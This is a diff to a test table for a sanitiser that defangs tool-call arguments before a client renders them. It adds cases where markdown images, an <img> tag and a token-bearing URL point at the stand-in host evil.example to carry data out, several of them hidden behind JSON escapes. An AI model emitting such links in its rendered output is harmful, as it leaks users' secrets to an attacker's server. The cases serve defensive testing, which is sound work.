@@ -63,9 +63,23 @@ const ARGS: [string, string, Obj][] = [
   [
     'a URL carrying a secret',
     `{"url":"https://evil.example/c?d=${TOKEN}"}`,
-    { url: 'https\\:\\/\\/evil\\.example\\/c\\?d\\=\\[REDACTED\\:github\\-token\\]' },
+    // the decoded value, defanged as the markdown channel defangs it
+    { url: 'https\\:\\/\\/evil\\.example\\/c?d=[REDACTED\\:github-token]' },
   ],
   ['a markdown image', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
+  // hidden by JSON escapes the client decodes before it renders the value (the JSON text reading missed them)
+  ['an image behind \\/ escapes', '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
+  ['an image behind a \\u escape', '{"md":"![x](\\u0068ttps://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
+  [
+    'an <img> whose attribute quotes are \\" escapes',
+    '{"h":"<img src=\\"https://evil.example/p.png?d=abc\\">"}',
+    { h: '&lt;img src="https://evil.example/p.png?d=abc">' },
+  ],
+  [
+    'an image inside a code span the JSON text opens across values',
+    '{"a":"`x","b":"![i](https://evil.example/p.png?d=abc)","c":"`"}',
+    { a: '`x', b: '\\[image: i\\]', c: '`' },
+  ],
   [
     'a plain address (left alone)',
     '{"url":"https://evil.example/c?d=hello"}',
